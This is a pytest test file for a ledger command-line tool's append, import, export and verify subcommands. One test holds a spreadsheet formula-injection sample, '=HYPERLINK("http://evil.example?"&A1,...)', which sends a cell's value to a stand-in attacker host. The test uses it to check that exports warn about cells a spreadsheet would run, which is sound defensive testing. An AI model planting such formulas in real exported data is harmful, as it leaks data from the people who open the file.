from __future__ import annotations

import json
import os
import signal
import subprocess
import sys

import pytest

from standto import read_scenario
from standto.cli.main import main
from standto_desk.access.log_chain import GENESIS
from standto_desk.commands.ledger_append import LONGEST, batches
from standto_desk.ledger.appending import append
from standto_desk.ledger.models import Entry
from standto_desk.ledger.reading import head
from tests.desk.ledger.starting import ANA, NOON, event, started
from tests.desk.ledger.test_verify import execute, unguard
from tests.desk.ledger.writers import ENVIRONMENT, acks, line_of
from tests.patience import PATIENCE
from tests.scenario.folders import write
from tests.scenario.test_unused import with_ban

LOG = (
    f"0 lines of the security log as they were written; the last is {GENESIS}\n"
    "Accounts, roles, posts and second factors are as the security log has them.\n"
)
"""The lines about an empty security log."""


@pytest.fixture
def ledger(database, monkeypatch, tmp_path, capsys):
    """Run `standto ledger` on a fresh database: its status, standard output and standard error."""
    monkeypatch.setenv("DATABASE_URL", database)
    monkeypatch.chdir(tmp_path)
    mask = os.umask(0o022)

    def run(*words: str, given: str = "") -> tuple[int, str, str]:
        (tmp_path / "given").write_text(given)
        with (tmp_path / "given").open() as file:
            monkeypatch.setattr(sys, "stdin", file)
            status = main(["ledger", *words])
        return (status, *capsys.readouterr())

    yield run
    os.umask(mask)


def test_durable_entries_are_acknowledged_and_refusals_are_printed(ledger):
    started()
    given = [
        line_of("k1", "m1", "stepped-back"),
        "\n",
        line_of("k2", "m9", "stepped-back", capability="xyz", recorded="2023-09-23T10:00"),
        "nonsense\n",
        "[1]\n",
        line_of("k3", "kent-arv", "aid-asked", count="x", low=3, colour="red"),
        line_of("k4", "kent-arv", "aid-asked", count=3),
        line_of("a key with spaces", "m2", "stepped-back"),
        json.dumps({"occurred": "2023-09-23T10:00+02:00", "event": "returned", "subject": "m1", "until": None}),
    ]
    status, out, err = ledger("append", given="".join(given))
    assert status == 2
    made = Entry.objects.filter(sequence__gt=14).order_by("sequence")
    assert out == "".join(f"{entry.sequence} {entry.hash} {entry.key}\n" for entry in made)
    assert [(entry.key.split("-")[0], entry.kind, entry.occurred) for entry in made] == [
        ("k1", "stepped-back", 1_695_459_600_000_000),
        ("k4", "aid-asked", 1_695_459_600_000_000),
        ("line", "returned", 1_695_456_000_000_000),
    ]
    assert [line.split(": ")[:2] for line in err.splitlines()] == [
        ["standard input:3", "recorded"],
        ["standard input:3", "subject"],
        ["standard input:3", "capability"],
        ["standard input:4", "is not JSON in UTF-8"],
        ["standard input:5", "is not an object"],
        ["standard input:6", "colour"],
        ["standard input:6", "count"],
        ["standard input:6", "low"],
        ["standard input:8", "key"],
    ]


def test_the_command_line_enters_as_no_account_of_the_desk(ledger):
    started()
    one = "0b0f8b1e-6f0c-4b8e-9a55-3b6a4a1f9f11"
    told = "--account: looks like an account of the desk: give another name\n"
    for spelling in (one, one.upper(), one.replace("-", ""), f"{{{one}}}", f"urn:uuid:{one}"):
        assert ledger("append", "--account", spelling, given=line_of("k", "kent-arv", "aid-arrived")) == (2, "", told)
    assert head().count == 14


def test_a_repeated_member_is_refused_by_name(ledger):
    started()
    twice = '{"occurred":"2023-09-23T10:00","event":"stepped-back","event":"returned","subject":"m1"}\n'
    told = "standard input:1: event: is repeated: write it once\n"
    assert ledger("append", given=twice) == (2, "", told)
    assert head().count == 14


def test_a_fault_of_a_line_names_its_column(ledger):
    started()
    given = line_of("k1", "m1", "stepped-back", note="\0", id="x" * 201)
    assert [line.split(": ")[1] for line in ledger("append", given=given)[2].splitlines()] == ["id", "note"]


def test_a_line_without_a_key_gets_one_that_nobody_can_guess(ledger):
    started()
    line = json.dumps({"occurred": "2023-09-23T10:00", "event": "stepped-back", "subject": "m1"}) + "\n"
    assert ledger("append", given=line * 2)[0] == 0
    keys = set(Entry.objects.filter(kind="stepped-back").values_list("key", flat=True))
    assert [len(key) for key in keys] == [len("line-") + 32] * 2


def test_the_same_lines_sent_again_are_acknowledged_as_before(ledger):
    started()
    given = line_of("k1", "m1", "stepped-back") + line_of("k2", "kent-arv", "aid-asked")
    first = ledger("append", "--account", "a1", "--post", "gold", "--force", "met", given=given)
    assert ledger("append", "--account", "a1", given=given) == first
    assert list(Entry.objects.filter(key="k1").values_list("account", "post", "force")) == [("a1", "gold", "met")]
    assert ledger("append", "--account", "a2", given=given)[0] == 2
    assert head().count == 16


def test_a_force_that_the_ledger_does_not_have_enters_nothing(ledger):
    started()
    before = head().count
    assert ledger("append", "--force", "zzz", given=line_of("k1", "m1", "stepped-back")) == (
        2,
        "",
        "--force: the ledger has no force 'zzz'; it has kent, met, mod\n",
    )
    assert head().count == before


def test_a_scenario_is_imported_verified_and_comes_out_again(ledger, tmp_path):
    figures = "warning: events.csv:1022: low: 101 to 2,595 and 24 to 99, reported within an hour, cannot both be true\n"
    assert ledger("import", "london-2023") == (0, "7,885 entries\n", figures)
    status, out, _ = ledger("import", "london-2023")
    assert (status, out.splitlines()[-1]) == (0, "nothing to do: the ledger has all of it already")
    (tmp_path / "again").write_text(ledger("export")[1])
    assert ledger("import", "again") == (2, "", "the ledger already holds 7,885 entries: import into an empty one\n")
    assert ledger("verify") == (0, f"7,885 entries as they were entered; the last is {head().hash}\n{LOG}", "")
    assert ledger("export", "--folder", "out", "--at", "2023-10-02T07:00") == (0, "", "")
    assert read_scenario(tmp_path / "out") == read_scenario("london-2023")
    assert ledger("export", "--folder", "out")[0] == 2
    assert ledger("export", "-o", "all.jsonl") == (0, "", "")
    status, out, _ = ledger("export")
    assert (status, out) == (0, (tmp_path / "all.jsonl").read_text())
    assert oct((tmp_path / "all.jsonl").stat().st_mode)[-3:] == "600"


def test_an_anchor_is_made_and_compared_with_the_ledger(ledger, monkeypatch, tmp_path, settings_key):
    started()
    assert ledger("anchor", "-o", "anchor.json") == (0, "", "")
    _, out, _ = ledger("anchor", "--public-key")
    (tmp_path / "key.pem").write_text(out)
    said_so = f"14 entries as they were entered, as the anchor says; the last is {head().hash}\n"
    said_so += LOG.replace("written;", "written, as the anchor says;")
    assert ledger("verify", "--anchor", "anchor.json") == (0, said_so, "")
    assert ledger("verify", "--anchor", "anchor.json", "--public-key", "key.pem") == (0, said_so, "")
    changed = json.loads((tmp_path / "anchor.json").read_text()) | {"count": 15}
    (tmp_path / "anchor.json").write_text(json.dumps(changed))
    assert ledger("verify", "--anchor", "anchor.json")[0] == 2
    assert ledger("verify", "--anchor", "none.json")[2] == "none.json: cannot be read: No such file or directory\n"


@pytest.fixture
def settings_key(settings_of_desk, tmp_path):
    """Set the path of the installation's key."""
    settings_of_desk.STANDTO_KEY_FILE = str(tmp_path / "installation.key")


@pytest.fixture
def settings_of_desk():
    """Return Django's settings, and restore them afterwards."""
    from django.conf import settings

    before = settings.STANDTO_KEY_FILE
    yield settings
    settings.STANDTO_KEY_FILE = before


def test_a_ledger_that_is_not_as_it_was_entered_has_status_1(ledger):
    started()
    unguard()
    execute("UPDATE ledger_entry SET subject = 'm9' WHERE sequence = 7")
    what = "entry 7 was changed, or is not the one that was entered there"
    assert ledger("verify") == (1, f"not as it was entered: {what}\n{LOG}", "")
    assert ledger("verify", "--ledger-only") == (1, f"not as it was entered: {what}\n", "")


def test_every_command_says_that_the_head_is_missing(ledger):
    started()
    unguard()
    execute("DELETE FROM ledger_head")
    assert ledger("verify")[:2] == (
        1,
        "not as it was entered: the head is missing, repeated or damaged: it has one row, which names the last entry\n"
        + LOG,
    )
    told = "--database: the head of the ledger is missing or doubled: `standto ledger verify` finds out more\n"
    assert ledger("append", given=line_of("k1", "m1", "stepped-back"))[2] == told


def test_options_that_do_not_go_together_are_refused(ledger):
    assert ledger("export", "--at", "2023-10-02T07:00")[2] == "--at: goes with --folder: lines hold every entry\n"
    assert ledger("export", "--folder", "x", "-o", "y")[2] == "--output: does not go with --folder\n"
    assert ledger("verify", "--public-key", "x")[2] == "--public-key: goes with --anchor\n"
    assert ledger("import", "nowhere")[2].startswith("nowhere: no such folder: name a scenario's folder")
    exported = "is for a scenario, and an export has it already: leave it out"
    told = f"--end: {exported}\n--force: {exported}\n"
    assert ledger("import", "-", "--end", "people", "--force", "home", given="")[2] == told
    ahead = "--ahead: is for a file that export wrote: leave it out\n"
    assert ledger("import", "london-2023", "--ahead")[2] == ahead


def test_lines_that_are_there_are_entered_together_without_waiting_for_more():
    reading, writing = os.pipe()
    found = batches(reading)
    os.write(writing, b"one\ntwo\n\nthr")
    assert [(line.number, line.data) for line in next(found)] == [(1, b"one"), (2, b"two")]
    os.write(writing, b"ee\nfour")
    os.close(writing)
    assert [(line.number, line.data) for line in next(found)] == [(4, b"three")]
    assert [[(line.number, line.data) for line in lines] for lines in found] == [[(5, b"four")]]
    os.close(reading)


def test_a_line_without_end_is_refused(tmp_path):
    (tmp_path / "long").write_bytes(b"x" * (LONGEST + 100_000))
    with (tmp_path / "long").open("rb") as file, pytest.raises(Exception, match="is longer than 1,000,000 bytes"):
        list(batches(file.fileno()))


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_a_slow_producer_is_answered_at_once_and_an_interrupt_leaves_nothing_half_done(desk, number):
    started()
    command = [sys.executable, "-m", "standto.cli.main", "ledger", "append", "--database", desk]
    with subprocess.Popen(
        command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=ENVIRONMENT
    ) as process:
        for key in ("k1", "k2"):
            process.stdin.write(line_of(key, "m1"))
            process.stdin.flush()
            (ack,) = acks(process.stdout.readline())
            assert (ack.sequence, ack.key) == (head().count, key)
        process.send_signal(number)
        assert process.wait(PATIENCE) == 130
        assert process.stderr.read() == "standto: interrupted; nothing is left half-written\n"


def test_importing_a_file_that_is_not_an_export_makes_no_database(tmp_path):
    from tests.desk.ledger.writers import standto

    (tmp_path / "empty").touch()
    (tmp_path / "notes").write_text("notes\n")
    for name, what in [
        ("empty", "empty: holds no entry: an export has one on each line\n"),
        ("notes", "notes:1: is not JSON: Expecting value: line 1 column 1 (char 0)\n"),
    ]:
        answer = standto("ledger", "import", name, "--database", "sqlite:///made.sqlite3", cwd=tmp_path)
        assert (answer.returncode, answer.stdout, answer.stderr) == (2, "", what)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["empty", "notes"]


def test_an_import_that_fails_later_says_that_it_made_the_database(ledger, tmp_path):
    from tests.desk.ledger.writers import standto

    started()
    _, lines, _ = ledger("export")
    (tmp_path / "lines").write_text(lines + "notes\n")
    answer = standto("ledger", "import", "lines", "--database", "sqlite:///made.sqlite3", cwd=tmp_path)
    assert answer.stderr.splitlines() == [
        "--database: made.sqlite3 was made, and has no entries: remove it if you do not want it",
        "lines:15: is not JSON: Expecting value: line 1 column 1 (char 0)",
    ]
    again = standto("ledger", "import", "lines", "--database", "sqlite:///made.sqlite3", cwd=tmp_path)
    assert again.stderr.splitlines() == answer.stderr.splitlines()[1:]


@pytest.mark.slow
def test_a_file_that_is_not_a_database_gives_one_clear_line(tmp_path):
    from tests.desk.ledger.writers import standto

    (tmp_path / "empty.sqlite3").touch()
    (tmp_path / "text.sqlite3").write_text("no database at all, but text " * 100)
    for url, what in [
        ("sqlite:///none.sqlite3", "--database: there is no file none.sqlite3: `standto ledger import` makes one"),
        ("sqlite:///empty.sqlite3", "--database: contains no ledger: `standto ledger import` makes one"),
        ("sqlite:///text.sqlite3", "--database: cannot be reached: file is not a database"),
        ("postgresql://nobody:secret@localhost:1/x", "--database: cannot be reached: connection failed"),
        ("nonsense://x", "--database: its scheme is nonsense; allowed: sqlite:///FILE or "),
    ]:
        answer = standto("ledger", "verify", "--database", url, cwd=tmp_path)
        assert (answer.returncode, answer.stdout) == (2, "")
        assert answer.stderr.startswith(what)
        assert answer.stderr.count("\n") == 1
        assert "secret" not in answer.stderr


def test_an_import_warns_as_check_does_and_refuses_names_that_look_alike(ledger, tmp_path):
    folder = write(tmp_path / "ban", with_ban("guard", "site1"))
    assert ledger("import", str(folder)) == (
        0,
        "12 entries\n",
        (
            "warning: powers.csv:4: site: power 'b' forbids nothing: no duty of the task 'guard' has the site 'site1'; "
            "the nearest is 'site-1'\n"
        ),
    )
    alike = write(tmp_path / "alike", with_ban("guard", "site\u200b-1"))
    status, out, err = ledger("import", str(alike))
    assert (status, out, err) == (
        2,
        "",
        (
            "powers.csv:4: site: 'site\\u200b-1' looks like 'site-1' on duties.csv:2 but is a different name: "
            "spell both the same way\n"
        ),
    )


FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'


def test_a_folder_is_a_faithful_copy_and_says_which_cells_a_spreadsheet_would_run(ledger, tmp_path):
    started()
    texts = [FORMULA, "＝1+1", "-4", "@SUM(A1)", "plain"]
    append([event("statement", "met", source="met-0924", text=text) for text in texts], author=ANA, now=NOON)
    status, out, told = ledger("export", "--folder", "out", "--at", "2023-09-23T12:00")
    assert (status, out) == (0, "")
    assert told == (
        "out: 3 cells hold texts that a spreadsheet would run as a formula: events.csv:2 note, events.csv:3 note, "
        "events.csv:5 note. They are as they were typed: import the tables with every column as text\n"
    )
    assert sorted(one.note for one in read_scenario(tmp_path / "out").events) == sorted(texts)


def test_a_folder_without_formulas_is_exported_silently(ledger):
    started()
    append([event("statement", "met", text="4 more = enough")], author=ANA, now=NOON)
    assert ledger("export", "--folder", "out", "--at", "2023-09-23T12:00") == (0, "", "")
